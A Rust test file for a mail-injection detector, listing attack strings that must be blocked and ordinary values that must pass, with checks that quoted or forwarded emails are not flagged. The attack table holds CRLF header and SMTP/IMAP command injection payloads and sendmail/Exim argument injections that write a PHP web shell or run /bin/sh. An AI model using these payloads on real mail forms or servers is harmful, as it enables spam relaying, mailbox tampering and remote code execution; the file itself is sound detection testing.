use super::super::properties::check_properties;
use super::super::tests::check_table;
use super::super::{Context, Detector, Place};

const VALUE: Context = Context::of(Place::Value);

/// Every prefix with every line.
const PREFIXES: &[&str] = &["a@x.example\r\n", "wang\n", "hello\r", "a@x.example,b@x.example\r\n", "预约咨询\n"];
const LINES: &[&str] = &[
    "Bcc: b@y.example",
    "bcc:b@y.example",
    "BCC: b@y.example, c@y.example",
    "Cc: b@y.example",
    "cc:<b@y.example>",
    "To: b@y.example",
    "From: x <b@y.example>",
    "Reply-To: b@y.example",
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=x",
    "Content-Type: text/html",
    "Content-Transfer-Encoding: base64",
    "RCPT TO:<b@y.example>",
    "MAIL FROM:<b@y.example>",
    "rcpt to: b@y.example",
    "V001 FETCH 1 BODY[]",
    "A1 LOGOUT",
    "V100 CAPABILITY",
    "a002 SELECT inbox",
    "X1 LOGIN a b",
];
const OPTIONS: &[&str] = &[
    "\"attacker\\\" -oQ/tmp/ -X/var/www/a.php  1\"@mail.example",
    "a@x.example -OQueueDirectory=/tmp -X/var/www/x.php",
    "\"a\\\" -oQ/tmp/ -X/var/www/x.php b\"@x.example",
    "a@x.example -X/tmp/x.php",
    "test@test.com\nBcc:spam@evil.example",
    "test@test.com\r\nBcc: a@evil.example,b@evil.example",
    "a\r\nCc: victim@evil.example\r\n\r\nBuy now",
    "subject\nBcc:x@evil.example\nContent-Type:text/html",
    "\"Hello\nContent-Type: text/html\n\n<html>hi</html>\"",
    "foo\nContent-Type: multipart/mixed; boundary=\"xyz\"\n\n--xyz\nContent-Type: text/plain\n\nspam\n--xyz--",
    "hi\nSubject: You won\nTo: victim@evil.example\n\nBody",
    "From: x@evil.example\nTo: y@evil.example\nBcc: z@evil.example",
    "me@x.example\nReply-To: attacker@evil.example",
    "me@x.example\nDisposition-Notification-To: attacker@evil.example",
    "me@x.example\nReturn-Receipt-To: attacker@evil.example",
    "me@x.example\nX-Priority: 1\nBcc: a@evil.example",
    "me@x.example\nErrors-To: attacker@evil.example",
    "me@x.example\r\nX-Mailer: Foo\r\n\r\nspam body",
    "me@x.example\nMessage-ID: <1@evil.example>",
    "me@x.example\nList-Unsubscribe: <mailto:x@evil.example>",
    "me@x.example\nResent-To: x@evil.example",
    "me@x.example\nResent-Bcc: x@evil.example",
    "me@x.example\nEnvelope-To: x@evil.example",
    "me@x.example\nDelivered-To: x@evil.example",
    "me@x.example\nApparently-To: x@evil.example",
    "me@x.example\nContent-Disposition: attachment; filename=\"x.exe\"",
    "me@x.example\nImportance: High\nSubject: x",
    "me@x.example\r\nDATA\r\nSubject: x\r\n\r\nhi\r\n.\r\nQUIT",
    "me@x.example\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<b@evil.example>\r\nDATA",
    "me@x.example>\r\nRCPT TO:<victim@evil.example",
    "me@x.example>\r\nDATA\r\n",
    "x\r\nRSET\r\nMAIL FROM:<>\r\nRCPT TO:<root>",
    "x\r\nMAIL FROM: <root@localhost>\r\n",
    "x\r\nMAIL FROM:<>\r\nRCPT TO:<admin>\r\n",
    "x\r\nHELO evil.example\r\nMAIL FROM:<a@b.example>",
    "x\r\nEHLO evil",
    "x\r\nVRFY root\r\n",
    "x\r\nEXPN staff",
    "x\r\nAUTH LOGIN",
    "x\r\nAUTH PLAIN AHRlc3QAdGVzdA==",
    "message body\r\n.\r\nQUIT\r\n",
    "\"\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
    "1 BODY[HEADER]\r\nZ900 RENAME INBOX ENTRADA\r\nZ901 CREATE x",
    "INBOX\"\r\nA003 DELETE \"INBOX",
    "INBOX\"\r\nA1 LOGOUT\r\n",
    "INBOX\r\na01 STATUS INBOX (MESSAGES)",
    "INBOX\"\r\nV002 SELECT \"Sent",
    "INBOX\r\nA01 UID FETCH 1 (BODY[])",
    "INBOX\r\nA1 COPY 1:* Trash",
    "INBOX\r\nA1 EXPUNGE",
    "INBOX\r\nA1 STORE 1 +FLAGS (\\Deleted)",
    "INBOX\r\nA142 AUTHENTICATE PLAIN",
    "INBOX\r\na1 SUBSCRIBE x",
    "x\r\nSTAT\r\nLIST\r\nRETR 1",
    "x\r\nDELE 1\r\nQUIT",
    "attacker@evil.example -OQueueDirectory=/tmp/ -X/var/www/html/x.php",
    "\"attacker\\\" -oQ/tmp/ -X/var/www/cache/phpcode.php  some\"@email.example",
    "attacker@evil.example -be ${run{/bin/sh -c id}}",
    "root@localhost -be ${run{${substr{0}{1}{$spool_directory}}usr${substr{0}{1}{$spool_directory}}bin}}",
    "-OQueueDirectory=/tmp -X/var/www/html/rce.php",
    "-C/etc/passwd -X/tmp/output.txt",
    "-froot@localhost -X/tmp/a",
    "a@b.example\" -d -D -oQ/tmp/ \"",
    "\"a.\\\" -OQueueDirectory=\r<?=eval($_GET[c])?>\\ -X/var/www/html/\"@a.php",
    "aaa( -X/home/www/backdoor.php )@qq.com",
    "user@x.example\nBcc: <victim@evil.example>",
    "user@x.example\\nBcc: victim@evil.example",
    "user@x.example\\r\\nCc: victim@evil.example",
    "user@x.example<CR><LF>Bcc: victim@evil.example",
    "user@x.example嘍嘊Bcc:victim@evil.example",
    "user@x.example,victim@evil.example\nBcc:\n victim2@evil.example",
];

const HONEST: &[&str] = &[
    "执行 \"lsof\"\r\nlsof -X / |grep deleted",
    "另见 \"参考\"\ndropuser(1), CREATE USER [create_user(7)]",
    "见 \"说明\"\n尽管 CREATE TABLE 的语法类似",
    "第一行\n第二行",
    "To: whom it may concern",
    "hello\nTo: the front desk",
    "hello\nFrom: Monday",
    "hello\nCc: nobody",
    "hello\nto: do",
    "notes\nfrom: 9:00 to: 11:00",
    "x\nsubject",
    "x\ndata",
    "x\nDATA: 5",
    "x\nquit smoking",
    "x\nQUIT smoking",
    "x\nhelp",
    "list\nselect one",
    "x\nA1 is good",
    "x\nA1 building",
    "x\nB2 LEVEL",
    "x\ncontent: text",
    "x\nversion: 1.0",
    "a@x.example",
    "a@x.example\n",
    "a@x.example\nb@x.example",
    "王\n李\n张",
    "请联系 a@x.example\n谢谢",
    "email: a@x.example\ntel: 010",
    "name: wang\nemail: a@x.example",
    "1. To 北京\n2. From 上海",
    "x\nRCPT",
    "x\nMAIL",
    "x\nRSET button",
    "x\nnoop",
    "a -x b",
    "a -X b",
    "cmd -o /tmp/a",
    "tar -xzf a.tgz",
    "gcc -o a a.c",
    "a@x.example -- thanks",
    "血压\n120/80",
    "\n",
    "\r\n",
    "Subject 1: 语文\nSubject 2: 数学",
    "x\nReply to: me",
    "x\nSender: 王",
    "x\nTo be: or not",
    "from a\nto b",
    "x\nHELLO world",
    "x\nehlo",
    "x\nVRFY",
    "MSH|^~\\&|A\rPID|1",
    "BEGIN:VCARD\nEMAIL:a@x.example\nEND:VCARD",
    "key: a@x.example\nother: b@x.example",
    "x\n@user hello",
    "x\nto @user",
    "x\nFrom: @user",
    "x\nCreate account",
    "x\nA1 create",
    "x\n12 SELECTED",
    "q\nstore 5",
    "x\nlist 3",
    "user1 login",
    "x\nuser1 login ok",
    "SELECT 1\nFROM a",
    "1. LIST\n2. STAT\n3. QUIT",
    "user admin\npass 123456",
];

#[test]
fn attacks_block_and_honest_values_pass() {
    let lines = PREFIXES.iter().flat_map(|prefix| LINES.iter().map(move |line| format!("{prefix}{line}")));
    let attacks: Vec<String> = lines.chain(OPTIONS.iter().map(ToString::to_string)).collect();
    let attacks: Vec<&str> = attacks.iter().map(String::as_str).collect();
    check_table(Detector::Mail, VALUE, 80, &attacks, HONEST);
}

#[test]
fn quoted_mails_do_not_block() {
    let quoted = b"From: a@x.example\r\nTo: b@x.example\r\nSubject: hello\r\n\r\ntext";
    let sure = Detector::Mail.find(quoted, VALUE).map_or(0, |finding| finding.confidence);
    assert!(sure < 60, "{sure}");
}

#[test]
fn mail_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Mail,
        &[
            "\r\n",
            "\n",
            "\r",
            "x",
            "Bcc",
            "to",
            "Subject",
            ":",
            " ",
            "a@b.example",
            "MIME-Version: 1.0",
            "RCPT TO:<",
            "DATA",
            "V001 FETCH 1",
            "LOGOUT",
            "A1 ",
            " -X/",
            " -oQ",
            "EHLO x",
            "中",
        ],
    );
}

#[test]
fn a_mail_that_is_answered_or_passed_on_does_not_block() {
    for text in [
        "-----Original Message-----\nFrom: Wang [mailto:a@x.example]\nSent: Monday\nTo: b@x.example\nSubject: x\n\ntext",
        "---------- Forwarded message ---------\nFrom: Wang <a@x.example>\nSubject: x\nTo: <b@x.example>",
    ] {
        let sure = Detector::Mail.find(text.as_bytes(), VALUE).map_or(0, |finding| finding.confidence);
        assert!(sure < 60, "{sure} for {text}");
    }
}

#[test]
fn headers_in_a_quoted_letter_do_not_block() {
    for value in [
        "Hi Tom,\n\nPlease see below.\n\n-----Original Message-----\nFrom: Zhang Wei <zhang@corp.example>\nTo: li@corp.example\nCc: pat@corp.example\nSubject: RE: Q3\n\nThanks",
        "收到\r\n\r\nFrom: hr@corp.example\r\nTo: all@corp.example\r\nCc: boss@corp.example\r\n\r\n明天放假",
    ] {
        let sure = Detector::Mail.find(value.as_bytes(), VALUE).map_or(0, |finding| finding.confidence);
        assert!(sure < 60, "{value}: {sure}");
    }
}
